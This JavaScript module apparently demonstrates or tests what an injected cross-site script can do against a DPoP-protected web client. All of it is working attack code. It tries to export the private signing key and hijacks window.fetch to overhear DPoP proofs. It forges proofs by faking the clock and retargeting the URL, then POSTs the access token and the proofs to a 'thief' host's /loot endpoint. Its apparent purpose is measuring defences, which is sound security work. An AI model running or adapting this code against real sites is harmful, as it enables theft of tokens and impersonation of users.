// What a script can do that has got into the page (cross-site scripting): all that the page can, for as long as it runs there.
import { generateProof } from 'dpop';
import { keyPair } from './client.js';

const DAY = 24 * 60 * 60 * 1000;

/** Tries to take the private key. @returns {Promise<string[]>} the error of each way there is */
export async function takeKey() {
  const { subtle } = crypto;
  const { privateKey } = await keyPair();
  const aes = { name: 'AES-GCM', length: 256, iv: new Uint8Array(12) };
  const wrapping = await subtle.generateKey(aes, true, ['wrapKey']);
  const ways = [
    subtle.exportKey('pkcs8', privateKey),
    subtle.exportKey('jwk', privateKey),
    subtle.wrapKey('jwk', privateKey, wrapping, aes),
  ];
  const results = await Promise.allSettled(ways);
  return results.map((result) => (result.status === 'rejected' ? result.reason.name : 'exported'));
}

/** Puts itself in front of fetch. @returns {() => string} the last proof that it has overheard */
export function listenIn() {
  const original = window.fetch.bind(window);
  let proof = '';
  window.fetch = (input, init) => {
    proof = new Headers(init?.headers).get('dpop') ?? proof;
    return original(input, init);
  };
  return () => proof;
}

/**
 * Has the key sign whatever may be of use, and sends it out of the page together with the token.
 * @param {{ issuer: string, api: string, thief: string, clientId: string }} config
 * @param {string} token
 * @param {string} recorded a proof that was overheard
 * @returns {Promise<{ id: string, status: number, challenges: string }[]>} what came of it
 */
export async function sendOut(config, token, recorded) {
  const { issuer, api, thief } = config;
  const keys = await keyPair();
  const [, payload = ''] = recorded.split('.');
  /** @type {{ nonce: string }} */
  const { nonce } = JSON.parse(atob(payload.replaceAll('-', '+').replaceAll('_', '/')));

  const { now } = Date;
  Date.now = () => now() + DAY;
  const tomorrow = await generateProof(keys, `${api}/accounts`, 'GET', nonce, token);
  Date.now = now;

  const proofs = {
    recorded,
    elsewhere: await generateProof(keys, `${thief}/accounts`, 'GET', nonce, token),
    foreignNonce: await generateProof(keys, `${api}/accounts`, 'GET', await nonceOf(issuer, config.clientId), token),
    tomorrow,
    fresh: await generateProof(keys, `${api}/accounts`, 'GET', nonce, token),
  };
  const headers = { 'content-type': 'application/json' };
  const response = await fetch(`${thief}/loot`, { method: 'POST', headers, body: JSON.stringify({ token, proofs }) });
  return response.json();
}

/** The authorization server gives its nonce to whoever asks without. @param {string} issuer @param {string} clientId */
async function nonceOf(issuer, clientId) {
  const dpop = await generateProof(await keyPair(), `${issuer}/token`, 'POST');
  const body = new URLSearchParams({ grant_type: 'authorization_code', client_id: clientId, code: 'none', code_verifier: 'none' });
  const response = await fetch(`${issuer}/token`, { method: 'POST', headers: { dpop }, body });
  const nonce = response.headers.get('dpop-nonce');
  if (nonce === null) throw new Error('The authorization server gave no nonce.');
  return nonce;
}
